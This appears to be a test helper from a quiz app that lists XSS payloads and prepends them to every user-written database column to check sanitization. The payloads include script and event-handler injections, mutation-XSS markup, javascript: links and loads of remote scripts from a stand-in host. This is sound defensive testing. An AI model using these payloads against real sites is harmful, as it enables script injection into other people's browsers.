"""Texts that try to become a script, and a way to put them into everything that people write.

The texts are of the kinds that the collections of OWASP, PortSwigger and the tests of DOMPurify
list: tags, events, SVG and MathML, addresses, attributes that are left, entities, Markdown, and
markup that only becomes dangerous when a browser mends it (mutation). Each marks what it makes
with `data-c`, and says who it is.
"""

from collections.abc import Iterator
from hashlib import sha256
from typing import Any

from sqlalchemy import JSON, Column, String, Table, select, text, update
from sqlalchemy.orm import Session

from quizapp.models.db import Base

FOREIGN = "//f.test"

TEXTS = (
    "<script data-c>alert(1)</script>",
    f'<script data-c src="{FOREIGN}/x.js"></script>',
    "<img data-c src=x onerror=alert(2)>",
    f'<img data-c src="{FOREIGN}/x.png">',
    f"![picture]({FOREIGN}/y.png)",
    "<svg data-c onload=alert(3)>",
    "<svg data-c><script>alert(4)</script></svg>",
    '<svg data-c><a xlink:href="javascript:alert(5)"><text y=20>press</text></a></svg>',
    f'<svg data-c><use href="{FOREIGN}/x.svg#a"></use></svg>',
    "<svg data-c><animate onbegin=alert(6) attributeName=x dur=1s>",
    ('<math data-c><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    'onerror=alert(7)&gt;">'),
    ('<form data-c><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
    '<img onerror=alert(8) src>">'),
    '<noscript data-c><p title="</noscript><img src=x onerror=alert(9)>">',
    '<a data-c href="javascript:alert(10)" autofocus onfocus=alert(11)>press</a>',
    ("[press](javascript:alert(12)) [press](JaVaScRiPt&colon;alert(13)) "
    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxNCk8L3NjcmlwdD4=)"),
    "<javascript:alert(15)> [x]: javascript:alert(16) [x]",
    "[word]{lang=\"en' onmouseover='alert(17)\" onclick=alert(18)}",
    '" data-c autofocus onfocus="alert(19)" x="',
    "' data-c autofocus onfocus='alert(20)' x='",
    ("</textarea><b data-c>21</b></title><b data-c>22</b></option></select><b data-c>"
    "23</b></script><b data-c>24</b>--><b data-c>25</b>]]><b data-c>26</b>"),
    f'<iframe data-c srcdoc="<script>alert(27)</script>" src="{FOREIGN}"></iframe>',
    f'<object data-c data="{FOREIGN}"></object><embed data-c src="{FOREIGN}">',
    f'<base data-c href="{FOREIGN}/"><link data-c rel=stylesheet href="{FOREIGN}/x.css">',
    f'<meta data-c http-equiv=refresh content="0;url={FOREIGN}">',
    f"<style data-c>@import '{FOREIGN}/y.css'; * {{ background: url({FOREIGN}/z.png) }}</style>",
    f'<form data-c action="{FOREIGN}"><button data-c>27</button></form>',
    f'<p data-c style="background:url({FOREIGN}/a.png)">28</p>',
    f'<video data-c src="{FOREIGN}/v" poster="{FOREIGN}/p" onerror=alert(29)></video>',
    "&lt;img data-c src=x onerror=alert(30)&gt; &#60;script&#62;alert(31)&#60;/script&#62;",
    "\\u003cimg data-c src=x onerror=alert(32)\\u003e ${alert(33)} {% raw %}",
    "<details data-c open ontoggle=alert(34)>35</details>",
    "<template data-c><img src=x onerror=alert(36)></template><x-y data-c>37</x-y>",
    "<!--[if true]><b data-c>38</b><![endif]--> <![CDATA[<b data-c>39</b>",
)  # fmt: skip

# Columns of texts that the product itself chooses: words of its own, names of zones, digests.
OURS = {
    "kind", "role", "type", "state", "format", "purpose", "scope", "algorithm", "action", "late",
    "feedback", "balance", "keep", "layout", "visibility", "verdict", "outcome", "submitted_by",
    "joined_by", "left_by", "state_before", "state_after", "theme", "text_size", "timezone",
    "language", "native_lang", "digest", "token_hash", "key_hash", "password_hash",
    "recovery_hash", "name_key", "join_code", "slug", "lesson_slug", "code", "key", "anchor",
    "parameters", "own_id", "imported", "answer_seen_at", "lesson", "date", "place", "email",
}  # fmt: skip
# A word of ours in some tables, and people's text in others.
OURS_HERE = {
    "rulings.part", "rulings.answer", "reviews.answer", "file_imports.options", "given_grades.parts",
    "staged_entries.sides", "staged_entries.cards", "assignments.what",
}  # fmt: skip
# The course's files: written by who runs the server, and checked before they are loaded.
COURSE = {"courses", "claims", "facts", "lessons", "misconceptions", "sources", "terms"}
# Members of an item, a response or a report that name things instead of being shown.
NAMES = {
    "id",
    "type",
    "lang",
    "language",
    "key",
    "objective",
    "bloom",
    "facts",
    "sources",
    "claims",
    "status",
    "enemies",
    "misconception",
    "wrong_truth",
    "reviewed",
    "as_of",
    "format",
    "kind",
    "date",
}


def written_columns() -> Iterator[tuple[Table, Column[Any]]]:
    """Every column that holds what people write: a new one belongs here until it is listed."""
    for table in Base.metadata.sorted_tables:
        if table.name in COURSE:
            continue
        for column in table.columns:
            is_text = isinstance(column.type, String | JSON)
            where = f"{table.name}.{column.name}"
            if is_text and column.name not in OURS and where not in OURS_HERE:
                yield table, column


def poison(session: Session, texts: str) -> int:
    """Put `texts` before everything that people have written; tells how many cells that were."""
    changed = 0
    # Longer than a form lets through, where the database itself has a limit too.
    session.execute(text("PRAGMA ignore_check_constraints = ON"))
    for table, column in written_columns():
        keys = list(table.primary_key.columns)
        for *key, value in session.execute(select(*keys, column)).all():
            where = [one == part for one, part in zip(keys, key, strict=True)]
            if value is not None:
                worse = _worse(value, texts)
                cells = {column.name: worse}
                if "digest" in table.columns:  # what is kept by it must not be found again
                    cells["digest"] = sha256(f"{texts}{value}".encode()).hexdigest()
                session.execute(update(table).where(*where).values(cells))
                changed += worse != value
    session.commit()
    return changed


def _worse(value: Any, texts: str) -> Any:
    if isinstance(value, str):
        return f"{texts}\n\n{value}"
    if isinstance(value, list):
        return [_worse(one, texts) for one in value]
    if isinstance(value, dict):
        return {
            name: one
            if name in NAMES
            else _annotated(one, texts)
            if name == "notes"
            else _worse(one, texts)
            for name, one in value.items()
        }
    return value


def _annotated(notes: Any, texts: str) -> Any:
    """Remarks on accepted answers, which name them."""
    return {_worse(name, texts): _worse(one, texts) for name, one in notes.items()}
